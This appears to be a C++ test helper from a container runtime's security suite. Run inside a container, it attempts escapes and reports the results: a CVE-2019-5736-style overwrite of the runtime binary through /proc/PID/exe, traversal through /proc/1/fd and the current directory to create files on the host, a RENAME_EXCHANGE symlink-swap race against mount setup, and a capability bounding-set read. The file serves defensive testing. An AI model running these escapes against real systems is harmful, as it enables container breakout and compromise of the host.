// sandbox-attacker: the container side of tests/security. A small static program (it needs no
// libraries, so it runs in the busybox test rootfs) that tries container escapes the way an
// attacker inside the container would, and prints what it managed to do, one fact per line,
// so that the tests can check both that the attack really ran and that the host is untouched.
//
//   sandbox-attacker race SECONDS [--exe] [--fd N] [--stop-file PATH]
//       Watches the container's pid namespace for new processes (a process that `sandbox exec`
//       puts into the container, or the runtime binary that a `#!/proc/self/exe` script runs)
//       and, for each one, as fast as it can:
//         --exe:  opens /proc/PID/exe (O_PATH) and keeps the fd when it names a file that is
//                 neither busybox nor this program (the runtime binary, CVE-2019-5736); then
//                 keeps reopening /proc/self/fd/K for writing (ETXTBSY lasts while the runtime
//                 runs) and appends "PWNED" once it can.
//         --fd N: creates GRABBED through /proc/PID/fd/N (a directory fd of the `exec` caller
//                 that the process holds until its execve).
//       Prints "watching" once it watches (start the processes after that), then
//       "saw-pids COUNT", "foreign-exe COUNT", and "wrote-exe" / "grabbed PID" when an
//       attack worked, or "write-exe-error ERRNO-TEXT" for the last refused write (saw-pids
//       counts only processes that appeared while it watched). Stops after
//       SECONDS, after a success, or as soon as PATH exists (the test says it is done).
//   sandbox-attacker proc1-exe
//       Opens /proc/1/exe (in a `created` container pid 1 is still the runtime's clone) for
//       reading and then for writing; prints "read-open ok|ERR" and "write-open ok|ERR"
//       (and "wrote-exe" when it appended).
//   sandbox-attacker fd-escape HOSTDIR MARKER
//       For every fd of pid 1 (and of itself), tries to leave the container through it:
//       /proc/1/fd/N/../../..(x40)/HOSTDIR/MARKER-1-N is created with O_CREAT. Prints
//       "fd PID N TARGET: created|ERR" per fd and a final "fds-tried COUNT".
//   sandbox-attacker cwd-escape HOSTDIR MARKER
//       From the current directory (process.cwd or exec --cwd), ../../..(x40)/HOSTDIR/MARKER.
//       Prints "cwd CWD", then "created" or the error.
//   sandbox-attacker swap DIR TARGET SECONDS
//       Makes DIR/d a directory and DIR/alt a symlink to TARGET and exchanges them atomically
//       (renameat2 RENAME_EXCHANGE) as fast as it can: DIR/d is a directory one moment and a
//       symlink out of the rootfs the next, while the runtime sets up a mount there. Prints
//       "swaps COUNT".
//   sandbox-attacker capbset
//       Prints the capability numbers in the bounding set, space-separated (PR_CAPBSET_READ
//       for 0..63, whatever /proc/sys/kernel/cap_last_cap says).
#include <dirent.h>
#include <fcntl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>
#include <vector>

namespace {

double now() {
  timespec ts{};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

std::string err_text(int e) {
  return std::strerror(e);
}

bool same_file(const struct stat& a, const struct stat& b) {
  return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

// The files a process in this container may legitimately run: busybox and this program.
struct KnownExes {
  struct stat busybox {};
  struct stat self {};
  bool have_busybox = false;
  KnownExes() {
    have_busybox = stat("/bin/busybox", &busybox) == 0;
    stat("/proc/self/exe", &self);
  }
  bool known(const struct stat& st) const {
    return (have_busybox && same_file(st, busybox)) || same_file(st, self);
  }
};

// The numeric entries of /proc: the pids this pid namespace shows.
std::vector<int> list_pids() {
  std::vector<int> pids;
  DIR* d = opendir("/proc");
  if (!d) return pids;
  while (dirent* e = readdir(d)) {
    char* end = nullptr;
    long pid = std::strtol(e->d_name, &end, 10);
    if (end != e->d_name && *end == '\0') pids.push_back(static_cast<int>(pid));
  }
  closedir(d);
  return pids;
}

int race(int argc, char** argv) {
  if (argc < 3) return 2;
  double seconds = std::atof(argv[2]);
  bool exe = false;
  int fd_num = -1;
  std::string stop_file;
  for (int i = 3; i < argc; ++i) {
    std::string a = argv[i];
    if (a == "--exe") {
      exe = true;
    } else if (a == "--fd" && i + 1 < argc) {
      fd_num = std::atoi(argv[++i]);
    } else if (a == "--stop-file" && i + 1 < argc) {
      stop_file = argv[++i];
    } else {
      std::fprintf(stderr, "sandbox-attacker race: unknown argument %s\n", a.c_str());
      return 2;
    }
  }
  KnownExes known;
  std::set<int> initial, seen, kept;                // kept: pids whose runtime-binary fd we hold
  for (int pid : list_pids()) initial.insert(pid);  // what runs already is not the target
  seen = initial;
  int self = getpid();
  int max_pid = self;
  for (int pid : initial) max_pid = pid > max_pid ? pid : max_pid;

  int new_pids = 0;          // processes that appeared while we watched
  std::vector<int> exe_fds;  // O_PATH fds on foreign executables (the runtime binary)
  int foreign = 0;
  std::string last_write_error;
  bool done = false;

  // One attempt on a pid we have not looked at yet. Called for predicted pids (max+1, max+2:
  // the next processes the namespace will get) before they show in a readdir, so that the
  // short window between the runtime's fork and the process's execve is hit.
  auto attack = [&](int pid) {
    char path[128];
    bool exists = false;
    if (exe && !kept.count(pid)) {
      std::snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd >= 0) {
        exists = true;
        struct stat st {};
        if (fstat(fd, &st) == 0 && !known.known(st) && exe_fds.size() < 64) {
          exe_fds.push_back(fd);
          kept.insert(pid);
          ++foreign;
          std::printf("foreign-exe-pid %d\n", pid);  // progress, for a test that waits on it
        } else {
          close(fd);
        }
      } else if (errno != ENOENT) {
        exists = true;  // there, but refused (EACCES once the runtime is non-dumpable)
        if (!seen.count(pid)) std::printf("exe-open-error %d %s\n", pid, err_text(errno).c_str());
      }
    }
    if (fd_num >= 0) {
      std::snprintf(path, sizeof path, "/proc/%d/fd/%d/GRABBED", pid, fd_num);
      int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
      if (fd >= 0) {
        exists = true;
        dprintf(fd, "grabbed by pid %d through pid %d's fd %d\n", self, pid, fd_num);
        close(fd);
        std::printf("grabbed %d\n", pid);
        done = true;
      } else {
        std::snprintf(path, sizeof path, "/proc/%d", pid);
        exists = exists || access(path, F_OK) == 0;
      }
    }
    if (!exe && fd_num < 0) {
      std::snprintf(path, sizeof path, "/proc/%d", pid);
      exists = access(path, F_OK) == 0;
    }
    if (exists) {
      if (seen.insert(pid).second) ++new_pids;
      if (pid > max_pid) max_pid = pid;
    }
  };

  // Appends to every kept runtime binary; ETXTBSY while any process still runs it.
  auto try_writes = [&] {
    for (int fd : exe_fds) {
      char path[64];
      std::snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
      int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w < 0) {
        last_write_error = err_text(errno);
        continue;
      }
      ssize_t n = write(w, "PWNED\n", 6);
      int e = errno;
      close(w);
      if (n == 6) {
        std::printf("wrote-exe\n");
        done = true;
        return;
      }
      last_write_error = n < 0 ? err_text(e) : "short write";
    }
  };

  std::printf("watching\n");  // tests start their processes after this line
  double deadline = now() + seconds;
  unsigned long rounds = 0;
  while (!done && now() < deadline) {
    for (int k = 1; k <= 3 && !done; ++k) attack(max_pid + k);
    if (++rounds % 16 == 0) {
      // Every process that came while we watched is tried again: one seen in a moment it
      // could not be opened (mid-setns, mid-execve) may be the runtime binary the next time.
      for (int pid : list_pids())
        if (!initial.count(pid) && pid != self) attack(pid);
      if (!exe_fds.empty()) try_writes();
      if (!stop_file.empty() && access(stop_file.c_str(), F_OK) == 0) {
        // The test is done: one last write attempt after its runtime processes are gone.
        if (!exe_fds.empty()) try_writes();
        break;
      }
    }
  }
  std::printf("saw-pids %d\n", new_pids);
  if (exe) std::printf("foreign-exe %d\n", foreign);
  if (!last_write_error.empty()) std::printf("write-exe-error %s\n", last_write_error.c_str());
  return 0;
}

int proc1_exe() {
  int r = open("/proc/1/exe", O_RDONLY | O_CLOEXEC);
  std::printf("read-open %s\n", r >= 0 ? "ok" : err_text(errno).c_str());
  if (r >= 0) {
    // Which file it is (device and inode, comparable with a stat on the host) and whether it
    // can be written at all: a sealed memfd copy of the runtime, or the runtime seen through
    // a read-only mount, is harmless to read.
    struct stat st {};
    if (fstat(r, &st) == 0)
      std::printf("exe-id %llu:%llu\n", static_cast<unsigned long long>(st.st_dev),
                  static_cast<unsigned long long>(st.st_ino));
    int seals = fcntl(r, F_GET_SEALS);
    std::printf("exe-sealed %s\n", seals >= 0 && (seals & F_SEAL_WRITE) ? "yes" : "no");
    struct statvfs vfs {};
    std::printf("exe-readonly %s\n",
                fstatvfs(r, &vfs) == 0 && (vfs.f_flag & ST_RDONLY) ? "yes" : "no");
    close(r);
  }
  int w = open("/proc/1/exe", O_WRONLY | O_APPEND | O_CLOEXEC);
  std::printf("write-open %s\n", w >= 0 ? "ok" : err_text(errno).c_str());
  if (w >= 0) {
    if (write(w, "PWNED\n", 6) == 6) std::printf("wrote-exe\n");
    close(w);
  }
  return 0;
}

// "/.." 40 times: more than any host path is deep, and ".." stops at the root it reaches.
std::string ups() {
  std::string s;
  for (int i = 0; i < 40; ++i) s += "/..";
  return s;
}

int fd_escape(const std::string& hostdir, const std::string& marker) {
  int tried = 0;
  for (int pid : {1, static_cast<int>(getpid())}) {
    std::string dir = "/proc/" + std::to_string(pid) + "/fd";
    DIR* d = opendir(dir.c_str());
    if (!d) {
      std::printf("fd %d: cannot list: %s\n", pid, err_text(errno).c_str());
      continue;
    }
    std::vector<std::string> fds;
    while (dirent* e = readdir(d))
      if (e->d_name[0] != '.') fds.push_back(e->d_name);
    closedir(d);
    for (const auto& n : fds) {
      std::string link = dir + "/" + n;
      char target[512] = {};
      ssize_t len = readlink(link.c_str(), target, sizeof target - 1);
      if (len < 0) std::strcpy(target, "?");
      std::string path =
          link + ups() + hostdir + "/" + marker + "-" + std::to_string(pid) + "-" + n;
      ++tried;
      int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
      if (fd >= 0) {
        std::printf("fd %d %s %s: created\n", pid, n.c_str(), target);
        close(fd);
      } else {
        std::printf("fd %d %s %s: %s\n", pid, n.c_str(), target, err_text(errno).c_str());
      }
    }
  }
  std::printf("fds-tried %d\n", tried);
  return 0;
}

int cwd_escape(const std::string& hostdir, const std::string& marker) {
  char cwd[512] = {};
  if (!getcwd(cwd, sizeof cwd))
    std::snprintf(cwd, sizeof cwd, "(getcwd: %s)", err_text(errno).c_str());
  std::printf("cwd %s\n", cwd);
  std::string path = "." + ups() + hostdir + "/" + marker;
  int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd >= 0) {
    std::printf("created\n");
    close(fd);
  } else {
    std::printf("%s\n", err_text(errno).c_str());
  }
  return 0;
}

int swap(const std::string& dir, const std::string& target, double seconds) {
  std::string d = dir + "/d", alt = dir + "/alt";
  mkdir(d.c_str(), 0755);
  unlink(alt.c_str());
  if (symlink(target.c_str(), alt.c_str()) != 0) {
    std::printf("symlink: %s\n", err_text(errno).c_str());
    return 1;
  }
  unsigned long swaps = 0;
  double deadline = now() + seconds;
  while (now() < deadline) {
    for (int i = 0; i < 256; ++i)
      if (renameat2(AT_FDCWD, d.c_str(), AT_FDCWD, alt.c_str(), RENAME_EXCHANGE) == 0) ++swaps;
  }
  std::printf("swaps %lu\n", swaps);
  return 0;
}

int capbset() {
  std::string out;
  for (int cap = 0; cap < 64; ++cap)
    if (prctl(PR_CAPBSET_READ, cap, 0, 0, 0) == 1)
      out += (out.empty() ? "" : " ") + std::to_string(cap);
  std::printf("%s\n", out.c_str());
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  setvbuf(stdout, nullptr, _IOLBF, 0);
  std::string cmd = argc > 1 ? argv[1] : "";
  if (cmd == "race") return race(argc, argv);
  if (cmd == "proc1-exe") return proc1_exe();
  if (cmd == "fd-escape" && argc == 4) return fd_escape(argv[2], argv[3]);
  if (cmd == "cwd-escape" && argc == 4) return cwd_escape(argv[2], argv[3]);
  if (cmd == "swap" && argc == 5) return swap(argv[2], argv[3], std::atof(argv[4]));
  if (cmd == "capbset") return capbset();
  std::fprintf(stderr,
               "usage: sandbox-attacker race SECONDS [--exe] [--fd N] [--stop-file PATH] | "
               "proc1-exe | fd-escape HOSTDIR MARKER | cwd-escape HOSTDIR MARKER | swap DIR TARGET "
               "SECONDS | capbset\n");
  return 2;
}
